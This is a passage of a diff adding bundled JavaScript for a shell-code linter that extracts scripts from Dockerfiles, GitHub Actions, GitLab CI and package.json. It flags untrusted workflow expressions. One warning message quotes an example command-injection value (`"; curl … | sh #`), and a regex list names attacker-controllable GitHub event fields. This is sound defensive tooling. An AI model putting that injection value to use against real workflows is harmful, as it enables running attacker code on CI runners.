+    const need = c3 < 128 ? 0 : c3 >= 194 && c3 <= 223 ? 1 : c3 >= 224 && c3 <= 239 ? 2 : c3 >= 240 && c3 <= 244 ? 3 : -1;
+    if (need < 0) return i3;
+    for (let k = 1; k <= need; k++) {
+      const n2 = b[i3 + k];
+      if (n2 === void 0 || (n2 & 192) !== 128) return i3;
+    }
+    i3 += need + 1;
+  }
+  return b.length;
+}
+function scriptUnit(file, text, dialect, profile = "script") {
+  return {
+    text,
+    hostText: text,
+    dialect,
+    granularity: "script",
+    profile,
+    origin: { file, kind: "script" },
+    sourceMap: new IdentityMap()
+  };
+}
+
+// src/sources/kinds/dockerfile.ts
+function isDockerfilePath(path6) {
+  const b = baseName(path6).toLowerCase();
+  if (b === "dockerfile" || b === "containerfile") return true;
+  if (/^(?:dockerfile|containerfile)\.[\w.-]+$/.test(b)) return !/\.(?:md|txt|json|ya?ml|sh|bak|orig|swp)$/.test(b);
+  return /^[\w.-]+\.(?:dockerfile|containerfile)$/.test(b);
+}
+function physicalLines(text) {
+  const out2 = [];
+  let start2 = 0;
+  while (start2 <= text.length) {
+    let nl = text.indexOf("\n", start2);
+    if (nl === -1) nl = text.length;
+    const end = nl > start2 && text[nl - 1] === "\r" ? nl - 1 : nl;
+    out2.push({ start: start2, end });
+    if (nl === text.length) break;
+    start2 = nl + 1;
+  }
+  return out2;
+}
+var DEFAULT_SHELL = { dialect: "sh" };
+function jsonArgv(code) {
+  const s = code.text;
+  let i3 = 0;
+  const ws = () => {
+    while (i3 < s.length && /\s/.test(s[i3])) i3++;
+  };
+  ws();
+  if (s[i3] !== "[") return void 0;
+  i3++;
+  const out2 = [];
+  ws();
+  if (s[i3] === "]") {
+    i3++;
+    ws();
+    return i3 === s.length ? out2 : void 0;
+  }
+  for (; ; ) {
+    ws();
+    const d = decodeStringAt(code, i3);
+    if (!d) return void 0;
+    out2.push(d.value);
+    i3 = d.end;
+    ws();
+    if (s[i3] === ",") {
+      i3++;
+      continue;
+    }
+    if (s[i3] === "]") {
+      i3++;
+      ws();
+      return i3 === s.length ? out2 : void 0;
+    }
+    return void 0;
+  }
+}
+function skipFlags(code) {
+  let i3 = 0;
+  for (; ; ) {
+    while (i3 < code.length && (code[i3] === " " || code[i3] === "	")) i3++;
+    if (!code.startsWith("--", i3)) return i3;
+    while (i3 < code.length && code[i3] !== " " && code[i3] !== "	") i3++;
+  }
+}
+function heredocMarkers(code) {
+  const out2 = [];
+  const re3 = /<<(-?)(["']?)([A-Za-z_][\w.-]*)\2/g;
+  for (const m of code.matchAll(re3)) out2.push({ name: m[3], stripTabs: m[1] === "-" });
+  return out2;
+}
+function extractDockerfile(text, ctx) {
+  const lines = physicalLines(text);
+  const units = [];
+  const notes = [];
+  let escape2 = "\\";
+  let li = 0;
+  for (; li < lines.length; li++) {
+    const l = text.slice(lines[li].start, lines[li].end);
+    const m = /^#\s*([A-Za-z][\w-]*)\s*=\s*(.*?)\s*$/.exec(l);
+    if (!m) break;
+    if (m[1].toLowerCase() === "escape" && (m[2] === "`" || m[2] === "\\")) escape2 = m[2];
+  }
+  const stageShells = /* @__PURE__ */ new Map();
+  let shell = DEFAULT_SHELL;
+  let currentStage;
+  const continues = (l) => {
+    let e = l.end;
+    while (e > l.start && (text[e - 1] === " " || text[e - 1] === "	")) e--;
+    return e > l.start && text[e - 1] === escape2 ? e - 1 : void 0;
+  };
+  while (li < lines.length) {
+    const first = lines[li];
+    const raw = text.slice(first.start, first.end);
+    const lead2 = /^\s*/.exec(raw)[0].length;
+    if (raw.trim() === "" || raw[lead2] === "#") {
+      li++;
+      continue;
+    }
+    const startLine2 = li;
+    const inst = new MappedText();
+    let l = first;
+    let from = first.start + lead2;
+    for (; ; ) {
+      const esc = continues(l);
+      inst.copy(text, from, esc ?? l.end);
+      li++;
+      if (esc === void 0) break;
+      while (li < lines.length) {
+        const t = text.slice(lines[li].start, lines[li].end);
+        if (t.trim() === "" || /^\s*#/.test(t)) li++;
+        else break;
+      }
+      if (li >= lines.length) break;
+      l = lines[li];
+      from = l.start;
+    }
+    const m = /^([A-Za-z]+)(?=\s|$)/.exec(inst.text);
+    if (!m) continue;
+    let keyword = m[1].toUpperCase();
+    let rest = inst.slice(m[0].length, inst.length);
+    if (keyword === "ONBUILD") {
+      const k = /^\s+([A-Za-z]+)(?=\s|$)/.exec(rest.text);
+      if (!k) continue;
+      keyword = k[1].toUpperCase() === "RUN" ? "RUN" : "ONBUILD";
+      rest = rest.slice(k[0].length, rest.length);
+    }
+    if (keyword === "FROM") {
+      const words = rest.text.trim().split(/\s+/).filter((w) => !w.startsWith("--"));
+      const base = words[0]?.toLowerCase() ?? "";
+      shell = stageShells.get(base) ?? DEFAULT_SHELL;
+      const as = words.findIndex((w) => w.toLowerCase() === "as");
+      if (as !== -1 && words[as + 1]) stageShells.set(words[as + 1].toLowerCase(), shell);
+      currentStage = as !== -1 && words[as + 1] ? words[as + 1].toLowerCase() : void 0;
+      continue;
+    }
+    if (keyword === "SHELL") {
+      const argv = jsonArgv(rest);
+      const prog = argv?.[0]?.text;
+      const dialect2 = dialectOfShell(prog);
+      const line = startLine2 + 1;
+      shell = dialect2 ? { dialect: dialect2, line } : { other: prog !== void 0 ? baseName(prog) : rest.text.trim(), line };
+      if (currentStage) stageShells.set(currentStage, shell);
+      continue;
+    }
+    if (keyword !== "RUN") continue;
+    const cmdAt = skipFlags(rest.text);
+    let code = rest.slice(cmdAt, rest.length);
+    const docs = heredocMarkers(code.text);
+    const bodies = [];
+    if (docs.length > 0) {
+      const withDocs = new MappedText();
+      for (let i3 = 0; i3 < code.length; i3++) withDocs.pushFrom(code, i3);
+      for (const d of docs) {
+        const body2 = new MappedText();
+        let closed = false;
+        while (li < lines.length) {
+          const pl = lines[li];
+          const t = text.slice(pl.start, pl.end);
+          li++;
+          withDocs.push("\n", pl.start > 0 ? pl.start - 1 : 0);
+          withDocs.copy(text, pl.start, pl.end);
+          const cmp = d.stripTabs ? t.replace(/^\t+/, "") : t;
+          if (cmp === d.name) {
+            closed = true;
+            break;
+          }
+          if (body2.length > 0) body2.push("\n", pl.start - 1);
+          const skip = d.stripTabs ? t.length - t.replace(/^\t+/, "").length : 0;
+          body2.copy(text, pl.start + skip, pl.end);
+        }
+        if (closed && body2.length > 0) body2.push("\n", body2.hostAt(body2.length - 1) + 1);
+        bodies.push(body2);
+      }
+      code = withDocs;
+    }
+    if ("other" in shell) {
+      notes.push({
+        ruleId: NOTE_RULE_IDS.shellNotAnalysed,
+        message: `This RUN runs in \`${shell.other}\` (SHELL on line ${shell.line}), not a POSIX shell: it was not analysed.`,
+        span: { start: first.start + lead2, end: first.start + lead2 + 3 },
+        data: { shell: shell.other }
+      });
+      continue;
+    }
+    const dialect = shell.dialect;
+    const at = first.start + lead2;
+    if (docs.length === 0) {
+      const argv = jsonArgv(code);
+      if (argv) {
+        const sh = argvToShell(argv, dialect);
+        if (!sh || sh.kind === "edit") continue;
+        if (sh.kind === "foreign") {
+          notes.push({ ruleId: NOTE_RULE_IDS.shellNotAnalysed, message: `This RUN runs \`${sh.shell}\`, not a POSIX shell: it was not analysed.`, span: { start: at, end: at + 3 }, data: { shell: sh.shell } });
+          continue;
+        }
+        const unit = mappedUnit(ctx.file, text, sh.text, sh.dialect, ctx.profile, "command", at);
+        units.push({ unit: sh.directExec ? { ...unit, context: { directExec: true } } : unit, kind: "dockerfile-run" });
+        continue;
+      }
+      if (code.text.trim() === "") continue;
+      units.push({ unit: mappedUnit(ctx.file, text, code, dialect, ctx.profile, "command", at), kind: "dockerfile-run" });
+      continue;
+    }
+    const only = /^\s*<<-?(["']?)[A-Za-z_][\w.-]*\1\s*$/.test(code.text.split("\n")[0] ?? "") && docs.length === 1;
+    if (only) {
+      const body2 = bodies[0];
+      const nl = body2.text.indexOf("\n");
+      const firstLine = nl === -1 ? body2.text : body2.text.slice(0, nl);
+      let d = dialect;
+      if (firstLine.startsWith("#!")) {
+        d = dialectFromShebang(firstLine);
+        if (!d) {
+          notes.push({ ruleId: NOTE_RULE_IDS.shellNotAnalysed, message: `This RUN's heredoc runs \`${firstLine.slice(2).trim()}\` (its shebang), not a POSIX shell: it was not analysed.`, span: { start: at, end: at + 3 }, data: { shell: firstLine.slice(2).trim() } });
+          continue;
+        }
+      }
+      units.push({ unit: mappedUnit(ctx.file, text, body2, d, ctx.profile, "script", at), kind: "dockerfile-run" });
+      continue;
+    }
+    units.push({ unit: mappedUnit(ctx.file, text, code, dialect, ctx.profile, "script", at), kind: "dockerfile-run" });
+  }
+  return { units: units.map((u2) => ({ ...u2, unit: { ...u2.unit, context: { ...u2.unit.context, additionalDirectories: ["/"] } } })), notes };
+}
+var DOCKERFILE = {
+  id: "dockerfile",
+  title: "Dockerfile",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => isDockerfilePath(path6),
+  extract: extractDockerfile
+};
+
+// src/sources/gha-expressions.ts
+function findExpressions(text) {
+  const out2 = [];
+  let i3 = text.indexOf("${{");
+  while (i3 !== -1) {
+    let k = i3 + 3;
+    let inString = false;
+    let end = -1;
+    while (k < text.length) {
+      const c3 = text[k];
+      if (inString) {
+        if (c3 === "'") {
+          if (text[k + 1] === "'") k++;
+          else inString = false;
+        }
+      } else if (c3 === "'") inString = true;
+      else if (c3 === "}" && text[k + 1] === "}") {
+        end = k + 2;
+        break;
+      }
+      k++;
+    }
+    const body2 = end === -1 ? text.slice(i3 + 3) : text.slice(i3 + 3, end - 2);
+    if (end === -1) end = text.length;
+    out2.push({ start: i3, end, body: body2.trim() });
+    i3 = text.indexOf("${{", end);
+  }
+  return out2;
+}
+function placeholder(length) {
+  const name2 = "GHA_EXPR".slice(0, Math.max(length - 3, 1)).padEnd(Math.max(length - 3, 1), "_");
+  return `\${${name2}}`;
+}
+function withPlaceholders(text, expressions) {
+  if (expressions.length === 0) return text;
+  const out2 = new MappedText();
+  let at = 0;
+  for (const e of expressions) {
+    for (let i3 = at; i3 < e.start; i3++) out2.pushFrom(text, i3);
+    const p = placeholder(e.end - e.start);
+    for (let j = 0; j < p.length; j++) out2.push(p[j], text.hostAt(e.start + j) ?? 0);
+    at = e.end;
+  }
+  for (let i3 = at; i3 < text.length; i3++) out2.pushFrom(text, i3);
+  return out2;
+}
+var UNTRUSTED = [
+  /^github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)$/,
+  /^github\.event\.(?:comment|review|review_comment|discussion_comment)\.body$/,
+  /^github\.event\.pages\.\*\.page_name$/,
+  /^github\.event\.commits\.\*\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
+  /^github\.event\.head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))$/,
+  /^github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)$/,
+  /^github\.head_ref$/,
+  /^github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name)))$/,
+  /^github\.event\.workflow_run\.pull_requests\.\*\.head\.ref$/
+];
+function propertyPaths(body2) {
+  const out2 = [];
+  const code = body2.replace(/'(?:[^']|'')*'/g, (s) => /^'[A-Za-z_][\w-]*'$/.test(s) ? s : "''");
+  const re3 = /[A-Za-z_][\w-]*(?:\s*(?:\.\s*(?:[A-Za-z_][\w-]*|\*)|\[\s*(?:'[^']*'|\d+|\*)\s*\]))*/g;
+  for (const m of code.matchAll(re3)) {
+    const path6 = m[0].replace(/\s+/g, "").replace(/\[\s*'([^']*)'\s*\]/g, ".$1").replace(/\[(?:\d+|\*)\]/g, ".*").toLowerCase();
+    out2.push(path6);
+  }
+  return out2;
+}
+function untrustedProperties(body2) {
+  return propertyPaths(body2).filter((p) => UNTRUSTED.some((r) => r.test(p)));
+}
+
+// src/sources/yaml-doc.ts
+var import_yaml = __toESM(require_dist2(), 1);
+var SOURCE_PARSE_ERROR_ID = NOTE_RULE_IDS.parseError;
+function parseYaml(text, what) {
+  let doc;
+  try {
+    doc = (0, import_yaml.parseDocument)(text, { keepSourceTokens: true, prettyErrors: false, uniqueKeys: false, strict: false });
+  } catch (err2) {
+    return { error: { ruleId: SOURCE_PARSE_ERROR_ID, message: `The ${what} cannot be parsed as YAML (${err2 instanceof Error ? err2.message : String(err2)}); its shell code was not checked.`, span: { start: 0, end: Math.min(1, text.length) } } };
+  }
+  const e = doc.errors[0];
+  if (e) {
+    const [start2, end] = e.pos;
+    const first = e.message.split("\n")[0].replace(/ at line \d+, column \d+:?$/, "");
+    return {
+      error: {
+        ruleId: SOURCE_PARSE_ERROR_ID,
+        message: `The ${what} cannot be parsed as YAML (${first}); its shell code was not checked.`,
+        span: { start: Math.min(start2, text.length), end: Math.max(Math.min(end, text.length), Math.min(start2 + 1, text.length)) }
+      }
+    };
+  }
+  return { doc };
+}
+function resolved(doc, node) {
+  if ((0, import_yaml.isAlias)(node)) return node.resolve(doc) ?? void 0;
+  return node ?? void 0;
+}
+function asMap(doc, node) {
+  const n2 = resolved(doc, node);
+  return (0, import_yaml.isMap)(n2) ? n2 : void 0;
+}
+function asSeq(doc, node) {
+  const n2 = resolved(doc, node);
+  return (0, import_yaml.isSeq)(n2) ? n2 : void 0;
+}
+function asScalar(doc, node) {
+  const n2 = resolved(doc, node);
+  return (0, import_yaml.isScalar)(n2) ? n2 : void 0;
+}
+function pairOf(map, key) {
+  if (!map) return void 0;
+  let found;
+  for (const p of map.items) if ((0, import_yaml.isScalar)(p.key) && p.key.value === key) found = p;
+  return found;
+}
+function valueOf2(doc, map, key) {
+  return resolved(doc, pairOf(map, key)?.value);
+}
+function stringOf(doc, map, key) {
+  const s = asScalar(doc, pairOf(map, key)?.value);
+  if (!s || s.value === null || s.value === void 0) return void 0;
+  return typeof s.value === "string" ? s.value : String(s.value);
+}
+function spanOf2(node, fallback = 0) {
+  const r = node?.range;
+  if (!r) return { start: fallback, end: fallback + 1 };
+  return { start: r[0], end: Math.max(r[1], r[0] + 1) };
+}
+function entries(doc, map) {
+  if (!map) return [];
+  const out2 = [];
+  for (const p of map.items) {
+    if ((0, import_yaml.isScalar)(p.key) && typeof p.key.value === "string") out2.push([p.key.value, resolved(doc, p.value), p]);
+  }
+  return out2;
+}
+
+// src/sources/yaml-scalar.ts
+function mappedScalar(node, text) {
+  if (typeof node.value !== "string") return void 0;
+  const value = node.value;
+  const tok = node.srcToken;
+  let decoded;
+  if (tok) {
+    if (tok.type === "block-scalar") decoded = blockScalar(tok, text);
+    else if (tok.type === "scalar") decoded = flowScalar(tok.source, tok.offset, "plain");
+    else if (tok.type === "single-quoted-scalar") decoded = flowScalar(tok.source.slice(1, -1), tok.offset + 1, "single");
+    else if (tok.type === "double-quoted-scalar") decoded = flowScalar(tok.source.slice(1, -1), tok.offset + 1, "double");
+  }
+  if (decoded && decoded.text === value) return decoded;
+  const at = node.range?.[0] ?? tok?.offset ?? 0;
+  const out2 = new MappedText();
+  out2.replace(value, at, 1);
+  return out2;
+}
+function splitLines(source, base) {
+  const out2 = [];
+  let s = 0;
+  for (; ; ) {
+    const nl = source.indexOf("\n", s);
+    const rawEnd = nl === -1 ? source.length : nl;
+    const end = rawEnd > s && source[rawEnd - 1] === "\r" ? rawEnd - 1 : rawEnd;
+    out2.push({ start: base + s, end: base + end, br: base + end, last: nl === -1 });
+    if (nl === -1) break;
+    s = nl + 1;
+  }
+  return out2;
+}
+function blockScalar(tok, text) {
+  const header = tok.props?.find((p) => p.type === "block-scalar-header");
+  const nl = tok.props?.find((p) => p.type === "newline");
+  if (!header || !nl) return void 0;
+  const m = /^([|>])(?:([1-9])([-+]?)|([-+]?)([1-9])?)$/.exec(header.source);
+  if (!m) return void 0;
+  const folded = m[1] === ">";
+  const digit = m[2] ?? m[5];
+  const chomp = m[3] || m[4] || "";
+  const bodyStart = nl.offset + nl.source.length;
+  const body2 = text.slice(bodyStart, bodyStart + tok.source.length);
+  if (body2 !== tok.source) return void 0;
+  const lines = splitLines(body2, bodyStart);
+  if (lines.length > 0 && lines[lines.length - 1].start === lines[lines.length - 1].end && lines[lines.length - 1].last) lines.pop();
+  let indent;
+  if (digit !== void 0) indent = Math.max(tok.indent, 0) + Number(digit);
+  else {
+    const first = lines.find((l) => text.slice(l.start, l.end).trim() !== "");
+    if (!first) indent = 0;
+    else indent = /^ */.exec(text.slice(first.start, first.end))[0].length;
+  }
+  const content = lines.map((l) => {
+    const s = text.slice(l.start, l.end);
+    if (s.length <= indent && s.trim() === "") return void 0;
+    if (s.slice(0, indent).trim() !== "") return null;
+    return { start: l.start + indent, end: l.end, br: l.br };
+  });
+  if (content.some((c3) => c3 === null)) return void 0;
+  const out2 = new MappedText();
+  let lastContent = -1;
+  for (let i3 = content.length - 1; i3 >= 0; i3--) if (content[i3]) {
+    lastContent = i3;
+    break;
+  }
+  const isMore = (i3) => {
+    const c3 = content[i3];
+    return !!c3 && (text[c3.start] === " " || text[c3.start] === "	");
+  };
+  for (let i3 = 0; i3 <= lastContent; i3++) {
+    const c3 = content[i3];
+    if (c3) out2.copy(text, c3.start, c3.end);
+    if (i3 === lastContent) break;
+    const br = c3 ? c3.br : lines[i3].br;
+    if (!folded) {
+      out2.push("\n", br);
+      continue;
+    }
+    if (!c3) {
+      out2.push("\n", br);
+      continue;
+    }
+    let j = i3 + 1;
+    while (j <= lastContent && !content[j]) j++;
+    if (j === i3 + 1) out2.push(isMore(i3) || isMore(j) ? "\n" : " ", br);
+    else if (isMore(i3) || isMore(j)) out2.push("\n", br);
+  }
+  if (lastContent >= 0 && chomp !== "-") {
+    const end = content[lastContent];
+    if (!lines[lastContent].last || end.br < bodyStart + body2.length) out2.push("\n", end.br);
+    if (chomp === "+") for (let i3 = lastContent + 1; i3 < lines.length; i3++) out2.push("\n", lines[i3].br);
+  } else if (lastContent < 0 && chomp === "+") {
+    for (const l of lines) out2.push("\n", l.br);
+  }
+  return out2;
+}
+var DOUBLE_ESCAPES = {
+  "0": "\0",
+  a: "\x07",
+  b: "\b",
+  t: "	",
+  "	": "	",
+  n: "\n",
+  v: "\v",
+  f: "\f",
+  r: "\r",
+  e: "\x1B",
+  " ": " ",
+  '"': '"',
+  "/": "/",
+  "\\": "\\",
+  N: "",
+  _: " ",
+  L: "\u2028",
+  P: "\u2029"
+};
+function flowScalar(source, base, style) {
+  const out2 = new MappedText();
+  const n2 = source.length;
+  let i3 = 0;
+  let pending = [];
+  const flush = () => {
+    for (const p of pending) out2.push(p.ch, p.at);
+    pending = [];
+  };
+  while (i3 < n2) {
+    const c3 = source[i3];
+    if (c3 === "\r" && source[i3 + 1] === "\n") {
+      i3++;
+      continue;
+    }
+    if (c3 === "\n") {
+      pending = [];
+      const at = base + i3;
+      let breaks = 0;
+      let k = i3;
+      while (k < n2) {
+        if (source[k] === "\n") {
+          breaks++;
+          k++;
+        } else if (source[k] === " " || source[k] === "	" || source[k] === "\r") k++;
+        else break;
+      }
+      if (breaks === 1) out2.push(" ", at);
+      else for (let b = 1; b < breaks; b++) out2.push("\n", at);
+      i3 = k;
+      continue;
+    }
+    if (c3 === " " || c3 === "	") {
+      pending.push({ ch: c3, at: base + i3 });
+      i3++;
+      continue;
+    }
+    flush();
+    if (style === "single" && c3 === "'" && source[i3 + 1] === "'") {
+      out2.push("'", base + i3);
+      i3 += 2;
+      continue;
+    }
+    if (style === "double" && c3 === "\\") {
+      const e = source[i3 + 1];
+      if (e === void 0) return void 0;
+      if (e === "\n" || e === "\r" && source[i3 + 2] === "\n") {
+        let k = i3 + (e === "\r" ? 3 : 2);
+        while (k < n2 && (source[k] === " " || source[k] === "	")) k++;
+        i3 = k;
+        continue;
+      }
+      const hexLen = e === "x" ? 2 : e === "u" ? 4 : e === "U" ? 8 : 0;
+      if (hexLen > 0) {
+        const hex = source.slice(i3 + 2, i3 + 2 + hexLen);
+        if (!/^[0-9a-fA-F]+$/.test(hex) || hex.length !== hexLen) return void 0;
+        const cp = parseInt(hex, 16);
+        if (cp > 1114111) return void 0;
+        for (const ch of String.fromCodePoint(cp)) out2.push(ch, base + i3);
+        i3 += 2 + hexLen;
+        continue;
+      }
+      const simple = DOUBLE_ESCAPES[e];
+      if (simple === void 0) return void 0;
+      out2.push(simple, base + i3);
+      i3 += 2;
+      continue;
+    }
+    out2.push(c3, base + i3);
+    i3++;
+  }
+  if (style !== "plain") flush();
+  return out2;
+}
+
+// src/sources/kinds/github-actions.ts
+var POSIX_SHELLS2 = { bash: "bash", sh: "sh", dash: "dash", zsh: "zsh", ksh: "ksh" };
+function shellOf(value) {
+  const word = value.trim().split(/\s+/)[0] ?? "";
+  const prog = baseName(word).replace(/\.exe$/i, "");
+  const dialect = POSIX_SHELLS2[prog];
+  return dialect ? { dialect } : { other: prog || value.trim() };
+}
+function isWorkflowPath(path6) {
+  return /(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(posixPath(path6));
+}
+function untrustedNotes(code, stepName) {
+  const out2 = [];
+  for (const e of findExpressions(code.text)) {
+    const props = untrustedProperties(e.body);
+    if (props.length === 0) continue;
+    const start2 = code.hostAt(e.start) ?? 0;
+    const end = (code.hostAt(e.end - 1) ?? start2) + 1;
+    const prop = props[0];
+    const name2 = envName(prop);
+    out2.push({
+      ruleId: NOTE_RULE_IDS.untrustedInput,
+      message: `\`\${{ ${e.body} }}\` is pasted into the script of ${stepName} before the shell runs: \`${prop}\` is written by whoever opens the issue or pull request, posts the comment or names the branch, so a value like \`"; curl … | sh #\` runs as code. Pass it through the step's \`env:\` (\`${name2}: \${{ ${e.body} }}\`) and write \`"$${name2}"\` in the script.`,
+      span: { start: start2, end: Math.max(end, start2 + 1) },
+      data: { expression: e.body, property: prop }
+    });
+  }
+  return out2;
+}
+function envName(prop) {
+  const parts2 = prop.split(".").filter((p) => p !== "*" && p !== "github" && p !== "event");
+  return parts2.slice(-2).join("_").replace(/[^A-Za-z0-9_]/g, "_").toUpperCase() || "VALUE";
+}
+function readSteps(steps, scope, units, notes) {
+  const { doc, text, ctx } = scope;
+  const seq = asSeq(doc, steps);
+  if (!seq) return;
+  seq.items.forEach((item, index) => {
+    const step = asMap(doc, item);
+    const runPair = pairOf(step, "run");
+    if (!step || !runPair) return;
+    const run3 = asScalar(doc, runPair.value);
+    const label = stepLabel(doc, step, index, scope.owner);
+    if (!run3) {
+      notes.push({ ruleId: NOTE_RULE_IDS.parseError, message: `The \`run:\` of ${label} is not a string; it was not checked.`, span: spanOf2(runPair.key) });
+      return;
+    }
+    const code = mappedScalar(run3, text);
+    if (!code) return;
+    notes.push(...untrustedNotes(code, label));
+    const own = stringOf(doc, step, "shell");
+    const shellValue = own ?? scope.shell;
+    const shell = findExpressions(shellValue).length > 0 ? { other: shellValue } : shellOf(shellValue);
+    if ("other" in shell) {
+      const from = own !== void 0 ? "its `shell:`" : scope.shellFrom;
+      notes.push({
+        ruleId: NOTE_RULE_IDS.shellNotAnalysed,
+        message: `${capital(label)} runs in \`${shell.other}\` (${from}), not a POSIX shell: its script was not analysed.`,
+        span: spanOf2(runPair.key),
+        data: { shell: shell.other }
+      });
+      return;
+    }
+    const unitText = withPlaceholders(code, findExpressions(code.text));
+    units.push({ unit: mappedUnit(ctx.file, text, unitText, shell.dialect, ctx.profile, "script", spanOf2(run3).start), kind: "run-step" });
+  });
+}
+function capital(s) {
+  return s.charAt(0).toUpperCase() + s.slice(1);
+}
+function stepLabel(doc, step, index, owner) {
+  const name2 = stringOf(doc, step, "name") ?? stringOf(doc, step, "id");
+  const id = name2 !== void 0 && name2.length <= 60 && !name2.includes("`") && !name2.includes("\n") ? `\`${name2}\`` : String(index + 1);
+  return `step ${id} of ${owner}`;
+}
+function defaultShell(doc, map) {
+  return stringOf(doc, asMap(doc, valueOf2(doc, asMap(doc, valueOf2(doc, map, "defaults")), "run")), "shell");
+}
+function onWindows(doc, job) {
+  const v = valueOf2(doc, job, "runs-on");
+  const labels = [];
+  const s = asScalar(doc, v);
+  if (s && typeof s.value === "string") labels.push(s.value);
+  for (const it of asSeq(doc, v)?.items ?? []) {
+    const x = asScalar(doc, it);
+    if (x && typeof x.value === "string") labels.push(x.value);
+  }
+  const m = asMap(doc, v);
+  if (m) labels.push(...stringOf(doc, m, "labels") ? [stringOf(doc, m, "labels")] : []);
+  return labels.some((l) => /windows/i.test(l) && !l.includes("${{"));
+}
+function extractWorkflow(text, ctx) {
+  const parsed = parseYaml(text, "workflow");
+  if (parsed.error) return { units: [], notes: [parsed.error] };
+  const { doc } = parsed;
+  const root = asMap(doc, doc.contents);
+  const units = [];
+  const notes = [];
+  const workflowShell = defaultShell(doc, root);
+  for (const [id, node] of entries(doc, asMap(doc, valueOf2(doc, root, "jobs")))) {
+    const job = asMap(doc, node);
+    if (!job) continue;
+    const jobShell = defaultShell(doc, job);
+    const windows = onWindows(doc, job);
+    const shell = jobShell ?? workflowShell ?? (windows ? "pwsh" : "bash");
+    const shellFrom = jobShell !== void 0 ? "the job's `defaults.run.shell`" : workflowShell !== void 0 ? "the workflow's `defaults.run.shell`" : "the default on the job's Windows runner";
+    readSteps(valueOf2(doc, job, "steps"), { doc, text, ctx, shell, shellFrom, owner: `job \`${id}\`` }, units, notes);
+  }
+  return { units, notes };
+}
+function extractAction(text, ctx) {
+  const parsed = parseYaml(text, "action metadata file");
+  if (parsed.error) return { units: [], notes: [parsed.error] };
+  const { doc } = parsed;
+  const runs = asMap(doc, valueOf2(doc, asMap(doc, doc.contents), "runs"));
+  const using = stringOf(doc, runs, "using");
+  if (using?.toLowerCase() !== "composite") {
+    return { units: [], notes: [], notThisKind: using !== void 0 ? `an action that runs with \`${using}\`, not a composite action: it has no \`run:\` steps` : "no `runs.using` key: not a GitHub Actions action metadata file" };
+  }
+  const units = [];
+  const notes = [];
+  readSteps(valueOf2(doc, runs, "steps"), { doc, text, ctx, shell: "bash", shellFrom: "the default", owner: "the composite action" }, units, notes);
+  return { units, notes };
+}
+var GITHUB_WORKFLOW = {
+  id: "github-workflow",
+  title: "GitHub Actions workflow",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => isWorkflowPath(path6),
+  extract: extractWorkflow
+};
+var GITHUB_ACTION = {
+  id: "github-action",
+  title: "GitHub Actions composite action",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => /^action\.ya?ml$/.test(baseName(path6)),
+  extract: extractAction
+};
+
+// src/sources/kinds/gitlab-ci.ts
+var import_yaml2 = __toESM(require_dist2(), 1);
+var SCRIPT_KEYS = ["before_script", "script", "after_script"];
+var RESERVED = /* @__PURE__ */ new Set(["stages", "variables", "include", "default", "workflow", "image", "services", "cache", "spec", "types", "pages:deploy"]);
+function readScript(doc, node, text, ctx, units, depth = 0) {
+  const n2 = resolved(doc, node);
+  if (!n2 || depth > 8) return;
+  if (n2.tag === "!reference") return;
+  if ((0, import_yaml2.isSeq)(n2)) {
+    for (const it of n2.items) readScript(doc, it, text, ctx, units, depth + 1);
+    return;
+  }
+  if (!(0, import_yaml2.isScalar)(n2)) return;
+  const code = mappedScalar(n2, text);
+  if (!code || code.text.trim() === "") return;
+  const granularity = code.text.trim().includes("\n") ? "script" : "command";
+  units.push({ unit: mappedUnit(ctx.file, text, code, "bash", ctx.profile, granularity, n2.range?.[0] ?? 0), kind: "ci-script" });
+}
+function extractGitlab(text, ctx) {
+  const parsed = parseYaml(text, "GitLab CI configuration");
+  if (parsed.error) return { units: [], notes: [parsed.error] };
+  const { doc } = parsed;
+  const root = asMap(doc, doc.contents);
+  const units = [];
+  for (const key of ["before_script", "after_script"]) readScript(doc, valueOf2(doc, root, key), text, ctx, units);
+  const dflt = asMap(doc, valueOf2(doc, root, "default"));
+  for (const key of SCRIPT_KEYS) readScript(doc, valueOf2(doc, dflt, key), text, ctx, units);
+  for (const [name2, node] of entries(doc, root)) {
+    if (RESERVED.has(name2) || SCRIPT_KEYS.includes(name2)) continue;
+    const job = asMap(doc, node);
+    if (!job) continue;
+    for (const key of SCRIPT_KEYS) readScript(doc, valueOf2(doc, job, key), text, ctx, units);
+  }
+  return { units, notes: [] };
+}
+var GITLAB_CI = {
+  id: "gitlab-ci",
+  title: "GitLab CI configuration",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => /^(?:\.gitlab-ci|.+\.gitlab-ci)\.ya?ml$/.test(baseName(path6)),
+  extract: extractGitlab
+};
+
+// src/sources/kinds/package-json.ts
+function extractPackageJson(text, ctx) {
+  const parsed = parseJson(text, "package.json", false);
+  if (parsed.error) return { units: [], notes: [parsed.error] };
+  const scripts = object(object(parsed.value)?.scripts);
+  const units = [];
+  for (const [name2, value] of Object.entries(scripts ?? {})) {
+    if (typeof value !== "string") continue;
+    const code = jsonString(parsed, ["scripts", name2]);
+    if (!code || code.text.trim() === "") continue;
+    units.push({ unit: mappedUnit(ctx.file, text, code, "sh", ctx.profile, "command", code.hostAt(0) ?? 0), kind: "npm-script" });
+  }
+  return { units, notes: [] };
+}
+var PACKAGE_JSON = {
+  id: "package-json",
+  title: "package.json scripts",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => baseName(path6) === "package.json",
+  extract: extractPackageJson
+};
+
+// src/sources/kinds/pre-commit.ts
+var import_yaml3 = __toESM(require_dist2(), 1);
+function shlexSplit(s) {
+  const t = s.text;
+  const out2 = [];
+  let cur;
+  let i3 = 0;
+  while (i3 < t.length) {
+    const c3 = t[i3];
+    if (/\s/.test(c3)) {
+      if (cur) out2.push(cur);
+      cur = void 0;
+      i3++;
+      continue;
+    }
+    if (c3 === "#" && !cur) break;
+    cur ??= new MappedText();
+    if (c3 === "'") {
+      const end = t.indexOf("'", i3 + 1);
+      if (end === -1) return void 0;
+      for (let k = i3 + 1; k < end; k++) cur.pushFrom(s, k);
+      i3 = end + 1;
+      continue;
+    }
+    if (c3 === '"') {
